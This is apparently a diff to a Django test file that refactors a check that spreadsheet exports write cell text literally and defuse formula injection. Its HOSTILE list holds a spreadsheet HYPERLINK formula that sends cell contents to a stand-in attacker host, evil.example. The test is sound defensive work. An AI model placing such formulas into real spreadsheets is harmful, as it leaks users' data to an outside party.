@@ -18,6 +18,7 @@ from jiefen.metrics.periods import Period
 from jiefen.privacy import lookup
 from jiefen.privacy.subject import subject_export
 from jiefen.spreadsheets.models import ImportJob
+from jiefen.spreadsheets.tests.conftest import content_of, download
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -82,15 +83,15 @@ def hostile(world, village_clerk):
     return phone
 
 
-def test_the_dispute_export_writes_text_as_text_masked_and_unmasked(client, hostile, village_clerk):
+def test_the_dispute_export_writes_text_as_text_masked_and_unmasked(
+    client, hostile, village_clerk, export
+):
     client.force_login(village_clerk)
-    masked = client.get(reverse("spreadsheets:export"))
-    assert masked.status_code == 200
-    assert _formula_cells(masked.content) == []
-    full = client.post(reverse("spreadsheets:export_unmasked"), {"reason": "核对台账"})
-    assert full.status_code == 200
-    assert _formula_cells(full.content) == []
-    rows = list(openpyxl.load_workbook(io.BytesIO(masked.content)).worksheets[0].values)
+    masked = content_of(download(client, export()[1]))
+    assert _formula_cells(masked) == []
+    full = content_of(download(client, export(reason="核对台账")[1]))
+    assert _formula_cells(full) == []
+    rows = list(openpyxl.load_workbook(io.BytesIO(masked)).worksheets[0].values)
     titles = {r[6] for r in rows[1:]}
     assert "'" + HOSTILE[0] in titles  # kept, shown literally
     assert "'=*" in {r[10].split("，")[0] for r in rows[1:] if r[10]}  # masked "=A1"
